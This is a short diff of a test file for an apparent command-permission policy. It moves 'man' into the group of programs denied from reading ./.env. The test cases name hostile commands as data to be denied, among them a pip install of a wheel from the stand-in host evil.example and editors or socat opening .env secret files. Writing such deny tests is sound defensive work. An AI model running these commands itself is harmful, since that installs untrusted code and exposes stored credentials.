@@ -141,9 +141,9 @@ check('net.fetch evil.example deny', 'mytool --url=https://evil.example', 'deny'
 check('net.fetch evil.example deny', 'pip install https://evil.example/a.whl', 'deny');
 /** Programs that open a file in a way of their own: known readers are bound, the others ask. */
 for (const [programs, expected] of [
-  ['vim vi nvim ex ed emacs nano micro hx view less more most', 'deny'],
+  ['vim vi nvim ex ed emacs nano micro hx view less more most man', 'deny'],
   ['foo code cursor subl emacsclient gvim vimdiff editor gedit open', 'ask'],
-  ['man python3 docker lsof http socat', 'ask'],
+  ['python3 docker lsof http socat', 'ask'],
 ] as const) {
   for (const program of programs.split(' '))
     check('read **/.env deny', `${program} ./.env`, expected);
